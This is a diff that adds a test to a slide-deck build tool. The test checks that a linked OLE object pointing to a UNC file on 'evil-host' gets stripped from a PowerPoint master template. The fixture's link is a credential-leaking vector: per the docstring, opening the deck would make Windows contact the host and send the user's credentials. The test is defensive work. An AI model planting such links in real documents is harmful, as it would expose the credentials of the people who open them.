@@ -201,6 +201,25 @@ def test_a_font_the_deck_uses_stays_embedded(project, capsys):
         assert b'typeface="Arial"' in archive.read("ppt/presentation.xml")
 
 
+LINKED_OLE = OLE.replace(b"<p:embed/>", b'<p:link updateAutomatic="1"/>')
+
+
+def test_a_templates_linked_ole_object_never_reaches_a_deck(project, capsys):
+    """An OLE object linked to a file on a UNC path: opening the deck would ask Windows to reach
+    that host (and send the user's credentials), so the link and its frame go."""
+    layout = "ppt/slideLayouts/slideLayout1.xml"
+    data = rezip(base(), edit={
+        layout: lambda b: b.replace(b"</p:spTree>", LINKED_OLE + b"</p:spTree>", 1),
+        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": add_rels(
+            _rel("rId92", DOC + "oleObject", "file://///evil-host/share/budget.xlsx", True))})
+    use_master(project.root, "ministry.pptx", data)
+    code, out, err = run_cli(capsys, "build", "--no-cache")
+    assert (code, err.splitlines()) == (0, [
+        f"note: {AT}: {layout}: link to 'file://///evil-host/share/budget.xlsx' dropped (a linked OLE object, "
+        "outside the file); a deck never reaches outside its file"])
+    carries_nothing_unsafe(project.output / "sampler-full-en.pptx")
+
+
 def test_master_inspect_names_what_every_deck_leaves_out(project, capsys):
     use_master(project.root, "ministry.pptx", hostile())
     code, out, err = run_cli(capsys, "master", "inspect", "templates/masters/ministry.pptx")
